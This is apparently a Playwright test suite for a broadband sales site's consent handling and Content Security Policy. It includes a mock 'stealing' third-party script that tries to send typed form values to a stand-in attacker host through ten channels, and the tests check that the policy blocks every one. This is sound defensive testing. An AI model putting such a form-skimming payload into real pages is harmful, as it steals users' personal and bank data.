import type { BrowserContext, Page, Route } from '@playwright/test'
import { type Consent, covers, type Purpose } from '@ultrafibra/contract/consent'
import { startServer } from '../tests/support/server-process.ts'
import { Buyer } from './models/buyer.ts'
import { Cookies } from './models/cookies.ts'
import { test as base, expect } from './models/fixtures.ts'
import { listen } from './models/gate.ts'
import { SiteCopy } from './models/site-copy.ts'
import { originOf, parties, scripts, type ThirdParty, videoOrigin } from './models/third-parties.ts'
import { noteBodies } from './models/wire.ts'

const thief = 'https://ladrao.exemplo.com.br'

const test = base.extend({
  site: ({ addressed }, use) => use(addressed.url),
})

type Conduct = (route: Route) => Promise<void>

const says =
  (body: string): Conduct =>
  (route) =>
    route.fulfill({ contentType: 'text/javascript', body })
const hangs: Conduct = () => new Promise(() => undefined)
const isBlocked: Conduct = (route) => route.abort('blockedbyclient')

/** Routes each third-party script; any other third-party request fails. */
const allow = async (context: BrowserContext, conduct: Readonly<Record<ThirdParty, Conduct>>) => {
  const asked: { readonly party: ThirdParty; readonly url: string; readonly referer: string | undefined }[] =
    []
  for (const party of parties) {
    await context.route(`${originOf(party)}/**`, (route) => {
      asked.push({ party, url: route.request().url(), referer: route.request().headers().referer })
      return conduct[party](route)
    })
  }
  return asked
}

const calm: Readonly<Record<ThirdParty, Conduct>> = {
  webCare: says('window.webcare = () => undefined'),
  fingerprint: says('window.hdim_payload = "h"'),
  preferences: says('window.user_prefs2 = "p"'),
  partner: says(''),
}

const device: readonly ThirdParty[] = ['fingerprint', 'preferences']

/** The third parties that a page may contact, by consent. */
const asksAt = (path: string, consent: Consent | null): readonly ThirdParty[] => {
  const allows = (purpose: Purpose | 'any') => consent !== null && covers(consent, purpose)
  return [
    ...(allows('any') ? (['webCare'] as const) : []),
    ...(allows('func') ? device : []),
    ...(allows('publi') && path === '/livelo/' ? (['partner'] as const) : []),
  ]
}

/** The partner is contacted on its page only, not in its journeys. */
const pages = ['/', '/livelo/', '/livelo/checkout/cep/']

for (const consent of [null, 'denied', 'func', 'publi', 'denied+contact', 'both+contact'] as const) {
  test.describe(`with the choice ${consent ?? 'still to come'}`, () => {
    test.use({ consent })

    test('each page contacts only the third parties that the consent allows, and sends them nothing more than the site', async ({
      context,
      page,
      addressed: { url: addressed },
    }) => {
      const asked = await allow(context, calm)
      const cookies = new Cookies(page)
      for (const path of pages) {
        asked.length = 0
        cookies.origins.clear()
        await page.goto(`${addressed}${path}?l=AAAAAAAAAAAAAAAAAAAAAA&utm_source=x&gclid=y`)
        const due = asksAt(path, consent)
        await expect.poll(() => asked.length).toBe(due.length)
        await page.waitForLoadState('networkidle')
        expect(asked.map(({ party }) => party).toSorted(), path).toEqual(due.toSorted())
        expect([...cookies.origins].toSorted(), path).toEqual([addressed, ...due.map(originOf)].toSorted())
        for (const { party, url, referer } of asked) {
          expect([undefined, `${addressed}/`], path).toContain(referer)
          const query = party === 'partner' ? `?url=${encodeURIComponent(addressed + path)}` : ''
          expect(url).toBe(scripts[party] + query)
        }
      }
    })
  })
}

/** The directives that block something on the page, from now on. */
const noteViolations = async (page: Page): Promise<readonly string[]> => {
  const violations: string[] = []
  await page.exposeFunction('noteViolation', (directive: string) => violations.push(directive))
  await page.addInitScript(() =>
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { noteViolation: (directive: string) => void }).noteViolation(effectiveDirective),
    ),
  )
  return violations
}

/** The directives that block a stealing script, one for each way out. */
const barred = [
  'connect-src',
  'default-src',
  'form-action',
  'frame-src',
  'img-src',
  'require-trusted-types-for',
  'style-src-elem',
]

/** A script that tries to send typed text away in every possible way. */
const stealing = `
  addEventListener('change', ({ target }) => {
    const loot = '${thief}/?' + encodeURIComponent(target.value)
    const attempts = [
      () => fetch(loot, { mode: 'no-cors', keepalive: true }).catch(() => undefined),
      () => navigator.sendBeacon(loot, target.value),
      () => { new Image().src = loot },
      () => { document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: loot })) },
      () => { document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: loot })) },
      () => { document.body.append(Object.assign(document.createElement('iframe'), { src: loot })) },
      () => new WebSocket(loot.replace('https', 'wss')),
      () => new EventSource(loot),
      () => {
        const form = Object.assign(document.createElement('form'), { action: loot, method: 'post', target: '_blank' })
        document.body.append(form)
        form.submit()
      },
      () => { document.body.append(Object.assign(document.createElement('script'), { src: loot })) },
    ]
    for (const attempt of attempts) try { attempt() } catch (_) {}
  })
  window.webcare = () => undefined`

const ways = {
  'one that steals, one that hangs and one that is blocked': {
    ...calm,
    webCare: says(stealing),
    fingerprint: hangs,
    preferences: isBlocked,
  },
  'one that fails at each call, one that fails while it loads and one whose server fails': {
    ...calm,
    webCare: says('window.webcare = () => { throw new Error("web-care") }'),
    fingerprint: says('throw new Error("fingerprint")'),
    preferences: (route: Route) => route.fulfill({ status: 500, body: '' }),
  },
  'a fingerprint that never comes': { ...calm, fingerprint: says(''), preferences: says('') },
} as const satisfies Readonly<Record<string, Readonly<Record<ThirdParty, Conduct>>>>

for (const [what, conduct] of Object.entries(ways)) {
  test.describe(`third-party scripts: ${what}`, () => {
    test.use({ consent: 'both+contact' })

    test('the purchase ends with an order, without device data, and no typed data leaves the site', async ({
      context,
      page,
      buyer,
    }) => {
      const stolen: string[] = []
      await context.route(/ladrao\.exemplo/, (route) => {
        stolen.push(route.request().url())
        return route.abort()
      })
      const violations = await noteViolations(page)
      const asked = await allow(context, conduct)
      const bodies = await noteBodies(page)
      // Only the stealing script must run while everything is typed.
      const isStealing = what.includes('steals')
      if (isStealing) await buyer.choosePlan()
      else await buyer.goTo('data-de-vencimento')
      await buyer.answerUntil('confirmacao', isStealing ? 'cep' : 'data-de-vencimento')
      expect(await buyer.placeOrder()).toMatch(/^\d{11}$/)
      expect(asked.map(({ party }) => party)).toContain('fingerprint')
      expect(stolen).toEqual([])
      expect([...new Set(violations)].toSorted()).toEqual(isStealing ? barred : [])
      const bank = (await bodies()).findLast(({ path }) => path.endsWith('/bankInfo'))
      expect(Object.keys(bank?.body as object)).toEqual(['direct_debit', 'bankInfo'])
    })
  })
}

test.describe('third-party scripts: one that never ends, one whose server is down and one that the policy refuses', () => {
  test.use({ consent: null })

  test('none is asked before the consent, and the purchase ends with an order', async ({ page }) => {
    const asked: string[] = []
    const endless = await listen(({ url = '' }, response) => {
      asked.push(url)
      response.writeHead(200, { 'content-type': 'text/javascript' })
      const drip = setInterval(() => response.write('void 0;\n'), 200)
      response.on('close', () => clearInterval(drip))
    })
    const down = 'http://127.0.0.1:1'
    const site = new SiteCopy()
    site.setAddresses({
      VITE_WEBCARE_URL: `${endless.origin}/w.js`,
      VITE_FINGERPRINT_URL: `${down}/f.js`,
      VITE_PREFERENCES_URL: `${endless.origin.replace('127.0.0.1', 'localhost')}/p.js`,
    })
    const THIRD_PARTIES = `web-care=${endless.origin},fingerprint=${down}`
    const server = await startServer({
      env: { SITE_DIR: site.folder, RATE_LIMITS: 'off', THIRD_PARTIES },
    })
    const violations = await noteViolations(page)
    const bodies = await noteBodies(page)
    const buyer = new Buyer(page, server.url)
    await buyer.goTo('data-de-vencimento')
    expect([asked, violations]).toEqual([[], []])
    await new Cookies(page).accept()
    expect(await buyer.buy()).toMatch(/^\d{11}$/)
    expect([asked, [...new Set(violations)]]).toEqual([['/w.js'], ['script-src-elem']])
    expect((await bodies()).filter(({ body }) => 'deviceInfo' in (body as object))).toEqual([])
    await server.stop()
    site.remove()
    await endless.close()
  })
})

test('a video is asked for by a button that names its site, once a consent covers it, and stops with its drawer', async ({
  context,
  page,
  addressed: { url: addressed },
}) => {
  const asked: string[] = []
  await context.route(`${videoOrigin}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ contentType: 'text/html', body: '<p>Gol</p>' })
  })
  await allow(context, calm)
  const violations = await noteViolations(page)
  const cookies = new Cookies(page)
  await page.goto(`${addressed}/`)
  const opener = page.getByRole('link', { name: /^Assistir/ })
  await opener.click()
  const drawer = page.getByRole('dialog', { name: 'Champions League na HBO Max' })
  const play = drawer.getByRole('button', { name: 'Assistir aqui, por videos.exemplo.com.br' })
  await play.click()
  await expect(drawer.getByRole('status')).toHaveText(/permita-os/)
  await expect(play).toBeFocused()
  await drawer.getByRole('link', { name: 'Permitir cookies funcionais' }).click()
  await cookies.purpose('func').check()
  expect(asked).toEqual([])
  await cookies.save.click()
  await play.click()
  await expect.poll(() => asked).toEqual([`${videoOrigin}/assistir/champions-league`])
  await expect(page.frameLocator('iframe').getByText('Gol')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.locator('iframe')).toHaveCount(0)
  await expect(opener).toBeFocused()
  expect(violations).toEqual([])
})
